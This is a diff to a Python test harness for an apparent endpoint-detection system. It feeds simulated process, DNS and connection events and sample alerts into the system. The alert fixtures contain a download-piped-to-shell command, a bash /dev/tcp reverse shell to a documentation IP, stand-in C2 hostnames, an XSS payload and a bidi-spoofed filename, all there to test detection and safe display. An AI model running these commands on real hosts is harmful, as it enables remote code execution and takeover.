@@ -6,6 +6,7 @@ import hmac
 import json
 import os
 import random
+import re
 import struct
 import sys
 import time
@@ -19,6 +20,8 @@ BIDI = "invoice\u202efdp.exe"
 MARKUP = "<img src=x onerror=document.title='owned'><script>document.title='owned'</script>"
 CONTROLS = "bash -c \x1b[2J\x07 a\tb\u200bc\u2028d"
 LONG = "long " + "A" * 5000 + " end-of-it"
+MESSAGES = {"Download piped into a shell": "A shell runs what a program fetched from the network, without a file in between.",
+            "Reverse shell": "A shell has its input and output on a connection to another host."}
 HEALTH = {"db": ["the spool is 82 % full"]}
 HOOKS = ("tp_btf/sched_process_exec tp_btf/sched_process_fork tp_btf/sched_process_exit tp/syscalls/sys_exit_openat "
          "tp/syscalls/sys_exit_connect tp/syscalls/sys_exit_accept4 fentry/tcp_close fentry/security_file_open "
@@ -81,8 +84,9 @@ def ended(seq, at, pid, key, comm):
 
 def alert(seq, at, n, title, severity, command, path, key, pid, evidence=(), ancestry=()):
     code = ["informational", "low", "medium", "high", "critical"].index(severity) + 1
-    raw = {"alert_id": "%032x" % n, "rule_id": "wedr-test-%d" % n, "rule_title": title, "rule_language": "sigma",
-           "severity": severity, "severity_code": code, "message": "A test of " + title, "tags": ["attack.t1059"],
+    rule = re.sub("[^a-z0-9]+", "_", title.lower())[:40]
+    raw = {"alert_id": "%032x" % n, "rule_id": "wedr_" + rule, "rule_title": title, "rule_language": "sigma",
+           "severity": severity, "severity_code": code, "message": MESSAGES.get(title, title), "tags": ["attack.execution", "attack.t1059.004"],
            "event_time": stamp(at), "pid": pid, "process_key": "%016x" % key, "image_path": path, "command_line": command,
            "user": "www-data", "entity": "pid:%d" % pid, "suppressed": n % 3, "match_count": 1, "rules_serial": "1",
            "evidence": list(evidence), "ancestry": list(ancestry),
@@ -232,22 +236,25 @@ class World:
                     ended(seq + 4, at + 9000, 102, 0x102, "curl")]
         self.send(self.web, "kernel.critical", tree)
         self.send(self.web, "kernel.bulk", lambda s: [connect(s, at + 3000, 102, 0x102, "203.0.113.9", 80),
-                                                      dns(s + 1, at + 3100, 102, 0x102, "evil.example.net")])
+                                                      dns(s + 1, at + 3100, 102, 0x102, "evil.example.net"),
+                                                      dns(s + 2, at + 40_000_000, 101, 0x101, "c2.example.net"),
+                                                      connect(s + 3, at + 40_900_000, 101, 0x101, "203.0.113.9", 443)])
         self.send(self.db, "kernel.critical", lambda s: [
             create(s + i, at + i, 200 + i, "/usr/bin/evil", text, 0x200 + i, 0x1) for i, text in enumerate(HOSTILE)])
         self.add_alerts()
 
     def add_alerts(self):
         at = now_us()
+        then = at - 599_997_000
         shell = {"epoch": "%016x" % self.web.epoch, "stream": "kernel.critical", "seq": 2,
-                 "event": create(2, at, 101, "/bin/sh", "sh -c curl http://203.0.113.9/x | sh", 0x101, 0x100, 100)}
+                 "event": create(2, then, 101, "/bin/sh", "sh -c curl http://203.0.113.9/x | sh", 0x101, 0x100, 100)}
         line_up = [{"process_key": "%016x" % k, "pid": p, "image_path": i, "command_line": c} for k, p, i, c in
-                   ((0x101, 101, "/bin/sh", "sh -c curl"), (0x100, 100, "/usr/sbin/nginx", "nginx"))]
+                   ((0x101, 101, "/bin/sh", "sh -c curl http://203.0.113.9/x | sh"), (0x100, 100, "/usr/sbin/nginx", "nginx -g daemon off;"))]
         self.send(self.web, "alert", lambda s: [
-            alert(s, at, 1, "Download piped into a shell", "high", "sh -c curl http://203.0.113.9/x | sh", "/bin/sh", 0x101, 101,
+            alert(s, then, 1, "Download piped into a shell", "high", "sh -c curl http://203.0.113.9/x | sh", "/bin/sh", 0x101, 101,
                   [shell], line_up),
-            alert(s + 1, at, 2, "Reverse shell", "critical", "bash -i >& /dev/tcp/203.0.113.9/443", "/bin/bash", 0x101, 101),
-            alert(s + 2, at, 3, MARKUP, "medium", CONTROLS, "/tmp/" + BIDI, 0x103, 103),
+            alert(s + 1, then + 41_000_000, 2, "Reverse shell", "critical", "bash -i >& /dev/tcp/203.0.113.9/443", "/bin/bash", 0x101, 101),
+            alert(s + 2, then + 95_000_000, 3, MARKUP, "medium", CONTROLS, "/tmp/" + BIDI, 0x103, 103),
             alert(s + 3, at, 4, "Quiet one", "low", LONG, "/usr/bin/long", 0x101, 101)])
         self.alerts += 4
         lab.wait_for("the alerts", 15, lambda: self.server.one("SELECT count(*) AS n FROM alerts")["n"] >= self.alerts)
